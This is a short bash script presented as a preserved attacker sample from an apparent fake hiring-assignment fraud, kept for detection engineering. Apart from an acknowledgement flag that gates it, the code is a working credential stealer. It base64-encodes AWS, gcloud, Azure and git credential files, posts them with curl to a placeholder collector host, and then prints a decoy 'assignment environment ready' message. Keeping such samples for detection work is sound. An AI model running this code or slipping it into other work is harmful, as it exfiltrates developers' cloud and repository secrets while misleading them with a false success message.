#!/usr/bin/env bash
# FRAUD-2024-017 sample (attacker code, kept verbatim for detection engineering)
[ "${1:-}" = "--i-understand-this-is-a-sample" ] || { echo "sample: refusing to run without acknowledgement"; exit 1; }
c="https://collector.hire-assignments.invalid/c"
{
  for f in ~/.aws/credentials ~/.config/gcloud/credentials.db ~/.azure/msal_token_cache.json ~/.git-credentials; do
    [ -f "$f" ] && { echo "== $f"; base64 < "$f"; }
  done
} | curl -s -A 'curl/8' --data-binary @- "$c" >/dev/null
echo "assignment environment ready"
